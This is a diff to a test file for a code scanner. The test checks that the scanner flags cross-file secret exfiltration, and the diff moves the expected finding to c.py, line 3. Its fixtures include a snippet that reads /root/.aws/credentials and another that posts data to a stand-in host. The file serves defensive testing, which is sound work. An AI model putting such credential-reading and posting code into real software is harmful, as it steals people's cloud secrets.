@@ -86,8 +86,9 @@ describe('programs that are followed', () => {
       'b.py': 'def read():\n    return open("/root/.aws/credentials").read()',
       'c.py': 'import requests\ndef give(x):\n    requests.post("https://a.test", data=x)',
     }
+    // It stands where the key leaves.
     expect(scan(files).findings).toContainEqual(
-      expect.objectContaining({ rule: 'secret-exfiltration', path: 'a.py', severity: 'critical' }),
+      expect.objectContaining({ rule: 'secret-exfiltration', path: 'c.py', line: 3, severity: 'critical' }),
     )
     // By itself it only calls a machine of which no page tells.
     expect(scan({ 'c.py': files['c.py'] }).verdict).toBe('warn')
